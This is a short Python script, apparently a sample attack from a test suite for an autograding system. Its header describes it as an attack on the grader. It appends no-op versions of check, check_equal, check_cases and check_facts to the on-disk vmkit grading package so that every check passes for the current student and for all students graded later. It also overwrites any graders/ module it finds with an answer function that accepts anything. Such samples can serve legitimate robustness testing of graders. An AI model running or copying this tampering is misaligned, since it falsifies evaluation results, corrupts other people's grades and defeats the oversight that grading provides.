# Attack: rewrite the vmkit package on disk, so that every check passes, for this student's hidden
# cells (which import vmkit.grading again from disk) and for every student graded after. Also plants a
# graders/ module with answers that agree with anything.
import os, pathlib, vmkit, vmkit.grading.checks
_always = ("\n\ndef check(*args, **kwargs):\n    return None\n\n"
           "def check_equal(*args, **kwargs):\n    return None\n\n"
           "def check_cases(*args, **kwargs):\n    return None\n\n"
           "def check_facts(*args, **kwargs):\n    return None\n")
for _path in [vmkit.grading.checks.__file__, os.path.join(os.path.dirname(vmkit.__file__), "__init__.py")]:
    try:
        with open(_path, "a") as _f:
            _f.write(_always)
        print("rewrote", _path)
    except OSError as _error:
        print("could not rewrite", _path, _error)
for _folder in pathlib.Path.cwd().parents:
    if (_folder / "graders").is_dir():
        try:
            (_folder / "graders" / "__init__.py").write_text("def reference(fact, *args, **kwargs):\n    return None\n")
            print("rewrote", _folder / "graders")
        except OSError as _error:
            print("could not rewrite", _folder / "graders", _error)
